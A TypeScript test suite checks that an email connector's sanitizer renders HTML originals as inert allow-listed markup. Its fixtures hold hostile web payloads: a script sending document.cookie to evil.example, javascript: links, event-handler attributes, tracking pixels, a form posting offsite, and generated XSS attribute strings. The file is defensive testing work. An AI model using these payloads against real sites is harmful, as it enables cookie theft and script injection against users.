import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { safeOriginalView } from '../../../main/core/connectors/email';

/** Every element and attribute the view may contain: what safeOriginalView's allow-list (and its own frame) writes. */
const VIEW_TAGS = new Set([
  'html', 'head', 'meta', 'body',
  'p', 'div', 'span', 'br', 'hr', 'b', 'strong', 'i', 'em', 'u', 's', 'strike', 'del', 'ins', 'sub', 'sup', 'small',
  'blockquote', 'pre', 'code', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'table', 'thead', 'tbody', 'tfoot', 'tr', 'td',
  'th', 'caption', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'address', 'bdi', 'bdo', 'abbr', 'cite', 'q', 'mark',
]);
const VIEW_ATTRIBUTES = new Set(['dir', 'lang', 'colspan', 'rowspan', 'class']);

/** The view as a browser's parser reads it: its elements (with attributes) and its body text. */
function read(view: string) {
  const elements: Array<{ name: string; attrs: Record<string, string> }> = [];
  let text = '';
  let inBody = false;
  const p = new Parser(
    {
      onopentag: (name, attrs) => {
        elements.push({ name, attrs });
        if (name === 'body') inBody = true;
      },
      ontext: (t) => {
        if (inBody) text += t;
      },
    },
    { decodeEntities: true },
  );
  p.write(view);
  p.end();
  return { elements, text };
}

function expectInert(view: string) {
  const { elements } = read(view);
  for (const e of elements) {
    expect(VIEW_TAGS.has(e.name), `element <${e.name}>`).toBe(true);
    if (e.name === 'meta' || e.name === 'html' || e.name === 'head') continue;
    for (const a of Object.keys(e.attrs)) expect(VIEW_ATTRIBUTES.has(a), `attribute ${a} on <${e.name}>`).toBe(true);
  }
  const head = view.slice(0, view.indexOf('<body'));
  expect(head).toContain(`content="default-src 'none'"`);
  // The view's own charset and CSP only: nothing from the sender reached the head.
  expect(elements.filter((e) => e.name === 'meta')).toHaveLength(2);
}

const HOSTILE = `<html><head><title>Invoice</title><style>body{background:url(https://track.example/bg.png)}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
<body onload="steal()" style="background:url(https://track.example/b.gif)">
<p style="color:red" class="x" id="y" onclick="go()">Dear customer, your card <b>4111 1111 1111 1111</b> was charged.</p>
<p>Your verification code is 482913. Do not share it.</p>
<img src="https://track.example/pixel.gif?u=42" width="1" height="1" alt="">
<img src="cid:logo" alt="Acme logo">
<a href="https://acme-secure-verify.example/login" onmouseover="x()">Log in here</a>
<a href="javascript:alert(1)">click</a>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object><embed src="y.swf">
<form action="https://evil.example/post"><input name="pin"><button>Send</button></form>
<svg onload="alert(1)"><script>alert(2)</script></svg>
<p dir="rtl" lang="ar">رقم الهوية ٧٨٤١٩٨٧١٢٣٤٥٦٧١ <font color="red" face="x">مهم</font></p>
<table><tr><td colspan="2" background="https://track.example/td.png">Total</td><td rowspan="999">5 KWD</td></tr></table>
<!-- <script>hidden()</script> --><![CDATA[ x ]]>
<div>unclosed <span>spans <b>and bold</div>
</body></html>`;

describe('safeOriginalView: a revealed HTML original as a document built from an allow-list', () => {
  it('keeps the words and structure, drops everything that runs, fetches or styles, and writes links out', () => {
    const view = safeOriginalView(HOSTILE);
    expectInert(view);
    const { text, elements } = read(view);
    expect(text).toContain('Dear customer, your card 4111 1111 1111 1111 was charged.');
    expect(text).toContain('رقم الهوية ٧٨٤١٩٨٧١٢٣٤٥٦٧١ مهم');
    expect(text).toContain('[image: Acme logo]');
    expect(text).toContain('Log in here <https://acme-secure-verify.example/login>');
    // A javascript: link is words only; frames, forms, scripts, styles and the title are gone with their content.
    expect(text).toContain('click');
    expect(view).not.toMatch(/javascript:|track\.example|evil\.example|steal|alert|document\.cookie|Invoice|Send|hidden\(\)/);
    expect(elements.find((e) => e.attrs.dir === 'rtl')).toMatchObject({ name: 'p', attrs: { dir: 'rtl', lang: 'ar' } });
    expect(elements.find((e) => e.name === 'td')).toMatchObject({ attrs: { colspan: '2' } });
    expect(elements.filter((e) => e.name === 'td')[1]!.attrs).toEqual({});
  });

  it('blots one-time codes and card security codes, which no reveal shows, even in the whole original', () => {
    const view = safeOriginalView('<p>Your verification code is <b>482913</b>.</p><p>CVV: 739</p><p>Ref 482913</p>');
    expect(view).not.toContain('482913');
    expect(view).not.toContain('739');
    expect(read(view).text).toContain('⟦OTP⟧');
    expect(read(view).text).toContain('⟦CVV⟧');
  });

  it('leaves nothing active whatever the markup (generated documents with hostile attributes and nesting)', () => {
    const tag = fc.constantFrom('p', 'div', 'a', 'img', 'script', 'style', 'iframe', 'b', 'table', 'td', 'tr', 'svg', 'math', 'form', 'textarea', 'template', 'noscript', 'font', 'object', 'base', 'link', 'meta', 'title', 'select', 'video', 'x-custom', 'SCRIPT', 'ScRiPt');
    const attr = fc.tuple(
      fc.constantFrom('onclick', 'onerror', 'onload', 'style', 'src', 'href', 'srcset', 'background', 'action', 'formaction', 'data', 'dir', 'lang', 'colspan', 'class', 'xlink:href', 'http-equiv', 'content'),
      fc.constantFrom('javascript:alert(1)', 'https://track.example/p.gif', 'url(https://track.example/x)', 'rtl', '2', '"><script>alert(1)</script>', "x' onerror='y", 'expression(alert(1))', 'data:text/html,<script>'),
    );
    const text = fc.constantFrom('hello', 'سلام', '<', '&lt;script&gt;', '"', "'", '&amp;', '٤١١١', '>', '</', '<!--', ']]>', '`');
    type Node = string;
    const { node } = fc.letrec<{ node: Node }>((tie) => ({
      node: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        text,
        fc
          .tuple(tag, fc.array(attr, { maxLength: 3 }), fc.array(tie('node'), { maxLength: 4 }), fc.boolean())
          .map(([t, attrs, kids, close]) => `<${t}${attrs.map(([k, v]) => ` ${k}="${v}"`).join('')}>${kids.join('')}${close ? `</${t}>` : ''}`),
      ),
    }));
    fc.assert(
      fc.property(fc.array(node, { maxLength: 6 }), (nodes) => {
        const view = safeOriginalView(nodes.join(''));
        expectInert(view);
        // The sender's words may say anything (as text); no attribute of the view carries a value of theirs but these.
        for (const e of read(view).elements.filter((x) => x.name !== 'meta' && x.name !== 'html')) {
          for (const [k, v] of Object.entries(e.attrs)) expect(`${k}=${v}`).toMatch(/^(dir=(rtl|ltr|auto)|lang=[A-Za-z-]+|(colspan|rowspan)=[0-9]+|class=(image|link|href))$/);
        }
      }),
      { numRuns: 400 },
    );
  });

  it('keeps the text of a plain document exactly, in any script (generated)', () => {
    // a word first: a document of digits alone is a bare answer, which the masking types as a code (masking round 26)
    const words = fc
      .tuple(fc.constantFrom('Order', 'طلب', 'سفارش', 'refund'), fc.array(fc.constantFrom('Order', 'طلب', 'سفارش', 'رقم', '١٢', '۳۴', 'refund', 'é', '&', '<', '>', '"'), { maxLength: 11 }))
      .map(([first, rest]) => [first, ...rest]);
    fc.assert(
      fc.property(words, (w) => {
        const escaped = w.map((x) => x.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')).join(' ');
        expect(read(safeOriginalView(`<p>${escaped}</p>`)).text).toBe(w.join(' '));
      }),
      { numRuns: 200 },
    );
  });
});
